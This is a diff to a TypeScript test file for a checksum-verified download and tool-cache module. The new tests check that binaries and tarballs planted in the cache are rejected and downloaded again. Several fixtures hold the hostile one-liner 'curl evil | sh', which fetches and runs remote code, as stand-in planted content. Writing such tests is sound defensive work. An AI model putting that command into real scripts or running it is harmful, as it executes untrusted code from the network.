@@ -1,13 +1,23 @@
 import assert from 'node:assert/strict'
 import { createHash } from 'node:crypto'
-import { mkdtemp, readFile, readdir } from 'node:fs/promises'
+import { execFileSync } from 'node:child_process'
+import { mkdir, mkdtemp, readFile, readdir, writeFile } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { after, before, describe, it } from 'node:test'
-import { cachedBinary, ChecksumError, downloadVerified, parseChecksum, unresolvable } from '../src/host/download.js'
+import { cachedBinary, cachedTarball, ChecksumError, downloadVerified, parseChecksum, unresolvable } from '../src/host/download.js'
 import { serve, type TestServer } from './helpers/http.js'
 
-const sha = (b: string): string => createHash('sha256').update(b).digest('hex')
+const sha = (b: string | Buffer): string => createHash('sha256').update(b).digest('hex')
+
+/** A gzipped tarball holding one file, `bridge`, with `content`, made by tar. */
+function tarballOf(content: string): Buffer {
+  const dir = execFileSync('mktemp', ['-d']).toString().trim()
+  execFileSync('sh', ['-c', 'printf %s "$1" > "$2/bridge"', 'sh', content, dir])
+  return execFileSync('tar', ['-cz', '-C', dir, 'bridge'])
+}
+const tgz = tarballOf('the bridge plugin')
+const evilTgz = tarballOf('curl evil | sh')
 
 describe('verified downloads', () => {
   let server: TestServer
@@ -22,6 +32,8 @@ describe('verified downloads', () => {
       '/v1/cni.tgz': { body: 'plugins' },
       '/v1/cni.tgz.sha256': { body: `${sha('plugins')}  cni.tgz\n` },
       '/v1/evil': { body: 'tampered' },
+      '/v1/plugins.tgz': { body: tgz },
+      '/v1/plugins.tgz.sha256': { body: `${sha(tgz)}  plugins.tgz\n` },
       '/v1/evil.sha256': { body: sha('original') }
     })
   })
@@ -56,7 +68,7 @@ describe('verified downloads', () => {
     await assert.rejects(downloadVerified({ name: 'kubeadm', url: `${server.url}/v1/kubeadm`, checksumUrl: `${server.url}/v1/nothing.sha256`, input: 'github-url' }), /Could not read the published checksum of kubeadm/)
   })
 
-  it('serves a verified binary from the tool cache the second time, without the network', async () => {
+  it('serves a verified binary from the tool cache the second time, fetching only its checksum', async () => {
     process.env.RUNNER_TOOL_CACHE = await mkdtemp(join(tmpdir(), 'ksn-tc-'))
     const artifact = { name: 'kubeadm', url: `${server.url}/v1/kubeadm`, checksumUrl: `${server.url}/v1/kubeadm.sha256`, input: 'github-url' as const }
     const key = { tool: 'kubeadm', version: 'v1.34.2', arch: 'amd64' }
@@ -65,9 +77,40 @@ describe('verified downloads', () => {
     const lines: string[] = []
     const second = await cachedBinary(artifact, key, (l) => lines.push(l))
     assert.equal(second, first)
-    assert.equal(server.hits.length, hits, 'no request the second time')
-    assert.deepEqual(lines, ['kubeadm v1.34.2 from the tool cache'])
+    assert.deepEqual(server.hits.slice(hits), ['/v1/kubeadm.sha256'], 'only the checksum the second time')
+    assert.deepEqual(lines, [`kubeadm v1.34.2 from the tool cache, verified against ${server.url}/v1/kubeadm.sha256`])
     assert.equal(await readFile(second, 'utf8'), 'the kubeadm binary')
+  })
+
+  it('never installs a binary planted in the tool cache: it is downloaded again, verified, and replaces the plant', async () => {
+    process.env.RUNNER_TOOL_CACHE = await mkdtemp(join(tmpdir(), 'ksn-tc-'))
+    // where @actions/tool-cache looks: TOOL/VERSION/ARCH, with its .complete marker beside it
+    const dir = join(process.env.RUNNER_TOOL_CACHE, 'kubeadm', '1.34.2', 'amd64')
+    await mkdir(dir, { recursive: true })
+    await writeFile(join(dir, 'kubeadm'), '#!/bin/sh\ncurl evil | sh\n')
+    await writeFile(`${dir}.complete`, '')
+    const artifact = { name: 'kubeadm', url: `${server.url}/v1/kubeadm`, checksumUrl: `${server.url}/v1/kubeadm.sha256`, input: 'github-url' as const }
+    const lines: string[] = []
+    const path = await cachedBinary(artifact, { tool: 'kubeadm', version: 'v1.34.2', arch: 'amd64' }, (l) => lines.push(l))
+    assert.equal(await readFile(path, 'utf8'), 'the kubeadm binary')
+    assert.match(lines[0], new RegExp(`^warning: the tool cache's kubeadm v1\\.34\\.2 \\(.*kubeadm\\) has SHA-256 ${sha('#!/bin/sh\ncurl evil | sh\n')}, but .* says ${sha('the kubeadm binary')}: not used, downloaded again$`))
+    assert.equal(await readFile(join(dir, 'kubeadm'), 'utf8'), 'the kubeadm binary', 'the plant is gone')
+  })
+
+  it('keeps tarballs in the tool cache as published, and checks a hit before unpacking it: a planted tarball is never unpacked', async () => {
+    process.env.RUNNER_TOOL_CACHE = await mkdtemp(join(tmpdir(), 'ksn-tc-'))
+    const key = { tool: 'cni-plugins', version: 'v1.8.0', arch: 'amd64' }
+    const artifact = { name: 'cni-plugins', url: `${server.url}/v1/plugins.tgz`, checksumUrl: `${server.url}/v1/plugins.tgz.sha256`, input: 'github-url' as const }
+    const first = await cachedTarball(artifact, key)
+    assert.equal(await readFile(join(first, 'bridge'), 'utf8'), 'the bridge plugin')
+    const cached = join(process.env.RUNNER_TOOL_CACHE, 'cni-plugins', '1.8.0', 'amd64', 'plugins.tgz')
+    assert.equal(sha(await readFile(cached, 'latin1')), sha(tgz.toString('latin1')), 'the tarball as published')
+    // a plant in its place: another tarball, whose bridge is not the published one
+    await writeFile(cached, evilTgz)
+    const lines: string[] = []
+    const second = await cachedTarball(artifact, key, (l) => lines.push(l))
+    assert.match(lines[0], /^warning: the tool cache's cni-plugins v1\.8\.0 .* not used, downloaded again$/)
+    assert.equal(await readFile(join(second, 'bridge'), 'utf8'), 'the bridge plugin')
   })
 
   it('never caches a file that failed verification', async () => {
